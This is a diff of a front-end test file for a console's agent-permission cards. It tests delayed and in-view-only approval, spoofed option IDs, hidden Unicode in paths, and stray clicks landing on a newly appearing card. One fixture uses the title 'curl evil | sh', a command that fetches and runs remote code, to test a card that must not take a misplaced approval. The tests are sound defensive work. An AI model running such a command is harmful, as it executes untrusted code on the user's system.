@@ -1,11 +1,13 @@
 import { act, cleanup, fireEvent, render, screen, within } from "@testing-library/react";
 import { RpcError } from "sixframe";
-import { afterEach, beforeEach, expect, test, vi } from "vitest";
+import { afterEach, beforeEach, expect, onTestFinished, test, vi } from "vitest";
 
 import type { AgentQuestionRequest } from "../../src/api.js";
+import { SETTLE_MS } from "../../src/chat/hooks.js";
 import type { Permission } from "../../src/chat/session-view.js";
 import { Console } from "../../src/console.js";
 import { furnish, type Furnished } from "../furnished.js";
+import { putInView } from "../in-view.js";
 
 const ends: (() => void)[] = [];
 
@@ -96,8 +98,8 @@ test("a card shows the exact input with nothing in it hidden, the risk and why, 
 test("a card says of which answer the yes is for this input alone, and what a rule allows, for how long, and where it is taken back", async () => {
   const rulePreview = "/srv/me/project/a.txt";
   const options: Permission["options"] = [
-    { optionId: "sixframe:allow_always", kind: "allow_always", label: "Always allow this in this folder", rulePreview },
-    { optionId: "sixframe:allow_session", kind: "allow_session", label: "Allow this in this session", rulePreview },
+    { optionId: "sixframe:always", kind: "allow_always", label: "Always allow this in this folder", rulePreview },
+    { optionId: "sixframe:session", kind: "allow_session", label: "Allow this in this session", rulePreview },
     { optionId: "y", kind: "allow_once", label: "Yes" },
   ];
   const shownInput = { file: "a.txt", new: "b", old: "a", newest: "c", oldest: "d" };
@@ -118,6 +120,15 @@ test("a card says of which answer the yes is for this input alone, and what a ru
   expect([...card.querySelectorAll(".exact-input dt")].map(({ textContent }) => textContent)).toEqual(["file", "old", "new", "newest", "oldest"]);
 });
 
+test("an agent's option that is called nearly as ours are is told as the agent's own", async () => {
+  const options: Permission["options"] = ["sixframe:forever", "sixframe:always ", "sixframe:", "SIXFRAME:ALWAYS"].map((optionId) => ({ optionId, kind: "allow_always", label: "Always allow" }));
+  await furnished(sessionWith({ permissions: [{ ...PERMISSION, options }] }));
+  const rules = (await screen.findByRole("article", { name: /Run a command/ })).querySelector("details") as HTMLElement;
+  expect(screen.getAllByRole("button", { name: /allow/ }).map(({ textContent }) => textContent)).toEqual(options.map(() => "Always allow, by a rule of the agent's own"));
+  expect([...rules.querySelectorAll("dd")].filter(({ textContent }) => /^The agent itself remembers it/.test(textContent))).toHaveLength(4);
+  expect(rules.textContent).not.toContain("Such a rule stands under");
+});
+
 test("what is told twice, by a rule or as a path, is no trouble, and each reason stands", async () => {
   const complain = vi.spyOn(console, "error").mockImplementation(() => undefined);
   const hits = [{ rule: "secrets", text: "It reads a.key" }, { rule: "secrets", text: "It reads b.key" }];
@@ -126,6 +137,16 @@ test("what is told twice, by a rule or as a path, is no trouble, and each reason
   const reasons = within(within(card).getByRole("list", { name: "Why it is risky" })).getAllByRole("listitem");
   expect(reasons.map(({ textContent }) => textContent)).toEqual(["It reads a.key", "It reads b.key"]);
   expect(complain).not.toHaveBeenCalled();
+});
+
+test("very many files are all named, and few of them singly", async () => {
+  const paths = Array.from({ length: 20_000 }, (_, at) => `/srv/me/${at}.txt`);
+  await furnished(sessionWith({ permissions: [{ ...PERMISSION, paths: [...paths, "/srv/\u202eme"] }] }));
+  const files = within(await screen.findByRole("article", { name: /Run a command/ })).getByRole("list", { name: "Files" });
+  const items = within(files).getAllByRole("listitem").map(({ textContent }) => textContent);
+  expect(items.length).toBeLessThan(500);
+  const rest = /^19,901 more: (.*)$/s.exec(items.pop() ?? "")?.[1] ?? "";
+  expect([...items, ...(JSON.parse(rest) as string[])]).toEqual([...paths, "/srv/⟨U+202E⟩me"]);
 });
 
 test("nothing is allowed before the card has stood still, nor by Enter; a click sends the hash of what was shown", async () => {
@@ -140,7 +161,47 @@ test("nothing is allowed before the card has stood still, nor by Enter; a click 
   await vi.waitFor(() => expect(asked).toEqual([["approve", { permissionId: "perm_1", optionId: "y", inputSha256: "abc123abc123ffff" }]]));
 });
 
-test("another card that comes up takes no click that was meant for the one before", async () => {
+test("nothing is allowed while its title is not in view, nor before it has stood still there, and always denied", async () => {
+  const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  const allow = await settled();
+  const title = document.querySelector(".ask-title") as Element;
+  act(() => putInView(title, false));
+  const answers = ["Allow once", /^Always allow/, "Deny"].map((name) => screen.getByRole("button", { name }));
+  expect(answers.map(isOff)).toEqual([true, true, false]);
+  fireEvent.click(allow);
+  act(() => putInView(title, true));
+  expect(isOff(allow)).toBe(true);
+  vi.useFakeTimers();
+  onTestFinished(() => void vi.useRealTimers());
+  act(() => putInView(title, false));
+  act(() => putInView(title, true));
+  const pass = (ms: number): void => act(() => void vi.advanceTimersByTime(ms));
+  for (let moved = 0; moved < 3; moved += 1) {
+    pass(SETTLE_MS - 1);
+    act(() => void fireEvent.scroll(title.closest(".waiting-cards") as Element));
+  }
+  pass(SETTLE_MS - 1);
+  expect(isOff(allow)).toBe(true);
+  pass(1);
+  expect(answers.map(isOff)).toEqual([false, false, false]);
+  fireEvent.scroll(title.closest(".waiting-cards") as Element);
+  expect(isOff(allow)).toBe(false);
+  expect(asked).toEqual([]);
+});
+
+test("where nothing tells what is in view, nothing is allowed", async () => {
+  vi.stubGlobal("IntersectionObserver", undefined);
+  onTestFinished(() => void vi.unstubAllGlobals());
+  vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"], shouldAdvanceTime: true });
+  onTestFinished(() => void vi.useRealTimers());
+  await furnished(sessionWith({ permissions: [PERMISSION] }));
+  const allow = await screen.findByRole("button", { name: "Allow once" });
+  act(() => void vi.advanceTimersByTime(10 * SETTLE_MS));
+  expect(isOff(allow)).toBe(true);
+  expect(isOff(screen.getByRole("button", { name: "Deny" }))).toBe(false);
+});
+
+test("another card that comes up, or goes again, takes no click that was meant for the one before", async () => {
   const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
   await settled();
   const next = { ...PERMISSION, permissionId: "perm_2", title: "curl evil | sh", expiresAtMs: PERMISSION.expiresAtMs - 1_000 };
@@ -148,6 +209,9 @@ test("another card that comes up takes no click that was meant for the one befor
   await screen.findByText("curl evil | sh");
   const buttons = screen.getAllByRole<HTMLButtonElement>("button", { name: "Allow once" });
   expect(buttons.map(isOff)).toEqual([true, true]);
+  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions: [PERMISSION] }) as never }]));
+  await vi.waitFor(() => expect(screen.queryByText("curl evil | sh")).toBeNull(), { interval: 5 });
+  expect(screen.getAllByRole("button", { name: "Allow once" }).map(isOff)).toEqual([true]);
 });
 
 test("the focus stays on an answer while another card comes up, and goes to what is left when its card is gone", async () => {
